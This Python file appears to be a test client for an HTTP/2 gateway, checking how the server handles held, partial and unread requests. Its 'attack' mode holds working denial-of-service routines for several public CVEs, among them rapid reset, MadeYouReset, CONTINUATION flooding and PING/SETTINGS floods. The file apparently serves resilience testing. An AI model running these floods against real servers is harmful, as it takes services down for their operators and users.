"""An HTTP/2 client on the libraries h2 and hyperframe: well-behaved, or an attack.

http2.py ADDRESS PORT SNI CA CERTIFICATE KEY requests   standard input: [{"authority", "path", "method", "headers", "body", "trailers"}, ...]
http2.py ... each        the same, each on a connection of its own; "fields" are all its fields, pseudo-header fields included
http2.py ... hold        a request for /held, and one for /; says so when that is answered, then waits for the end
http2.py ... last        a request for /, then waits for the end of the connection
http2.py ... half LENGTH a request that says LENGTH bytes of its body and stops, and a whole one beside it
http2.py ... unread      a request for /, whose response it never takes, until the end of the connection
http2.py ... attack NAME

Prints one JSON document; `hold` prints a line "waiting" before it.
"""

import json
import socket
import ssl
import sys

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
import hyperframe.frame as frames
from hpack import Encoder


class Client:
    def __init__(self, address, port, sni, ca, certificate, key):
        context = ssl.create_default_context(cafile=ca)
        if certificate:
            context.load_cert_chain(certificate, key)
        context.set_alpn_protocols(["h2"])
        raw = socket.create_connection((address, int(port)), timeout=20)
        self.socket = context.wrap_socket(raw, server_hostname=sni)
        self.protocol = self.socket.selected_alpn_protocol()
        config = h2.config.H2Configuration(
            client_side=True, validate_outbound_headers=False, normalize_outbound_headers=False
        )
        self.connection = h2.connection.H2Connection(config)
        self.connection.initiate_connection()
        self.streams = {}
        self.goaway = None
        self.received = b""
        self.flush()

    def flush(self):
        self.socket.sendall(self.connection.data_to_send())

    def head(self, request):
        if "fields" in request:
            return [tuple(field) for field in request["fields"]]
        headers = [
            (":method", request.get("method", "GET")),
            (":scheme", "https"),
            (":path", request.get("path", "/")),
        ]
        if request.get("authority") is not None:
            headers.insert(2, (":authority", request["authority"]))
        return headers + [tuple(header) for header in request.get("headers", [])]

    def send(self, request, ended=True):
        stream = self.connection.get_next_available_stream_id()
        body, trailers = request.get("body"), request.get("trailers")
        self.streams[stream] = {"status": None, "headers": {}, "body": "", "ended": False, "reset": None}
        self.connection.send_headers(stream, self.head(request), end_stream=ended and body is None and not trailers)
        if body is not None:
            self.connection.send_data(stream, body.encode(), end_stream=not trailers)
        if trailers:
            self.connection.send_headers(stream, [tuple(trailer) for trailer in trailers], end_stream=True)
        self.flush()
        return stream

    def frames(self, data):
        """Whole frames, one by one: the library takes nothing more after a GOAWAY, and forgets it with what follows."""
        self.received += data
        while len(self.received) >= 9:
            end = 9 + int.from_bytes(self.received[:3], "big")
            if len(self.received) < end:
                return
            frame, self.received = self.received[:end], self.received[end:]
            yield frame

    def receive(self):
        """Reads once; False at the end of the connection."""
        try:
            data = self.socket.recv(65536)
        except (ConnectionError, ssl.SSLError):
            return False
        try:
            for frame in self.frames(data):
                self.take_frame(frame)
            self.flush()
        except (ConnectionError, ssl.SSLError):
            return False
        return bool(data)

    def take_frame(self, frame):
        try:
            self.take(self.connection.receive_data(frame))
        except h2.exceptions.ProtocolError:
            if self.goaway is None:
                raise
            if frame[3] == frames.PingFrame.type and not frame[4] & 1:
                self.socket.sendall(frame[:4] + b"\x01" + frame[5:])

    def take(self, events):
        for event in events:
            stream = self.streams.get(getattr(event, "stream_id", None))
            if isinstance(event, h2.events.ConnectionTerminated):
                self.goaway = int(event.error_code)
            elif stream is None:
                continue
            elif isinstance(event, h2.events.ResponseReceived):
                headers = [(name.decode(), value.decode()) for name, value in event.headers]
                stream["status"] = int(dict(headers)[":status"])
                stream["headers"] = dict(headers)
            elif isinstance(event, h2.events.DataReceived):
                stream["body"] += event.data.decode()
                self.connection.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
            elif isinstance(event, h2.events.StreamEnded):
                stream["ended"] = True
            elif isinstance(event, h2.events.StreamReset):
                stream["reset"] = int(event.error_code)

    def read(self, stream):
        state = self.streams[stream]
        while not state["ended"] and state["reset"] is None and self.receive():
            pass
        return state

    def until_closed(self):
        while self.receive():
            pass

    def raw(self, *sent):
        """Frames that a well-behaved library would not send."""
        self.socket.sendall(b"".join(frame.serialize() for frame in sent))


def encoded(client, path="/held"):
    return Encoder().encode(client.head({"authority": SNI, "path": path}))


def rapid_reset(client):
    """CVE-2023-44487: requests that are taken back at once."""
    block = encoded(client)
    for stream in range(1, 20001, 2):
        headers = frames.HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"])
        client.raw(headers, frames.RstStreamFrame(stream, error_code=8))


def made_you_reset(client):
    """CVE-2025-8671: requests that the server has to reset, because of a window update of zero."""
    block = encoded(client)
    for stream in range(1, 20001, 2):
        headers = frames.HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"])
        update = frames.WindowUpdateFrame(stream)
        update.window_increment = 0
        # The library's own check is what is to be got around.
        raw = bytearray(frames.WindowUpdateFrame(stream, window_increment=1).serialize())
        raw[-4:] = b"\0\0\0\0"
        client.socket.sendall(headers.serialize() + bytes(raw))


def continuation(client):
    """CVE-2024-27316: a header block that never ends."""
    client.raw(frames.HeadersFrame(1, encoded(client), flags=["END_STREAM"]))
    block = Encoder().encode([("x-filler", "x" * 4000)])
    for _ in range(20000):
        client.raw(frames.ContinuationFrame(1, block))


def empty_data(client):
    """CVE-2019-9518: frames without content, which cost the sender nothing."""
    client.raw(frames.HeadersFrame(1, encoded(client), flags=["END_HEADERS"]))
    burst = b"".join(frames.DataFrame(1, b"").serialize() for _ in range(1000))
    for _ in range(1000):
        client.socket.sendall(burst)


def pings(client):
    """CVE-2019-9512: pings whose answers nobody reads."""
    burst = b"".join(frames.PingFrame(0, b"12345678").serialize() for _ in range(1000))
    for _ in range(2000):
        client.socket.sendall(burst)


def settings(client):
    """CVE-2019-9515: settings whose acknowledgements nobody reads."""
    burst = b"".join(frames.SettingsFrame(0, settings={3: 100}).serialize() for _ in range(1000))
    for _ in range(2000):
        client.socket.sendall(burst)


def large_head(client):
    """A header list beyond the bound, in many small fields."""
    block = Encoder().encode(
        client.head({"authority": SNI, "path": "/"}) + [(f"x-{number}", "y" * 200) for number in range(2000)]
    )
    pieces = [block[start : start + 16000] for start in range(0, len(block), 16000)]
    sent = [frames.HeadersFrame(1, pieces[0], flags=["END_STREAM"])]
    sent += [frames.ContinuationFrame(1, piece) for piece in pieces[1:]]
    sent[-1].flags.add("END_HEADERS")
    client.streams[1] = {"status": None, "headers": {}, "body": "", "ended": False, "reset": None}
    client.connection.get_next_available_stream_id()
    client.raw(*sent)


ATTACKS = [rapid_reset, made_you_reset, continuation, empty_data, pings, settings, large_head]


def attack(client, name):
    """How it ended: the gateway closed the connection, or stopped reading because nobody reads its answers."""
    [chosen] = [attack for attack in ATTACKS if attack.__name__ == name]
    client.socket.settimeout(3)
    try:
        chosen(client)
    except (ConnectionError, ssl.SSLError):
        pass
    except TimeoutError:
        return {"ended": "stalled"}
    try:
        while client.socket.recv(65536):
            pass
    except (ConnectionError, ssl.SSLError):
        pass
    except TimeoutError:
        return {"ended": "survived"}
    return {"ended": "closed"}


def each(request):
    """What comes back to one request on a connection of its own; the end of the connection is an answer too."""
    client = Client(*sys.argv[1:7])
    try:
        return client.read(client.send(request))
    except (ConnectionError, ssl.SSLError):
        return client.streams[1]


def main():
    if sys.argv[7:] == ["each"]:
        json.dump([each(request) for request in json.load(sys.stdin)], sys.stdout)
        return
    client = Client(*sys.argv[1:7])
    match sys.argv[7:]:
        case ["requests"]:
            streams = [client.send(request) for request in json.load(sys.stdin)]
            result = [client.read(stream) for stream in streams]
        case ["hold"]:
            stream = client.send({"authority": SNI, "path": "/held"})
            client.read(client.send({"authority": SNI, "path": "/"}))
            print("waiting", flush=True)
            client.until_closed()
            result = {"goaway": client.goaway, "stream": client.streams[stream]}
        case ["idle"]:
            client.until_closed()
            result = {"goaway": client.goaway}
        case ["last"]:
            stream = client.send({"authority": SNI, "path": "/"})
            client.read(stream)
            client.until_closed()
            result = {"goaway": client.goaway, "stream": client.streams[stream]}
        case ["half", length]:
            stream = client.send({"authority": SNI, "method": "POST", "trailers": None, "body": None}, ended=False)
            client.connection.send_data(stream, b"x" * int(length))
            client.flush()
            beside = client.send({"authority": SNI, "path": "/beside"})
            result = [client.read(stream), client.read(beside)]
        case ["unread"]:
            client.connection.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
            client.flush()
            stream = client.send({"authority": SNI, "path": "/"})
            client.until_closed()
            result = client.streams[stream]
        case ["attack", name]:
            result = attack(client, name)
    json.dump(result, sys.stdout)


SNI = sys.argv[3]
main()
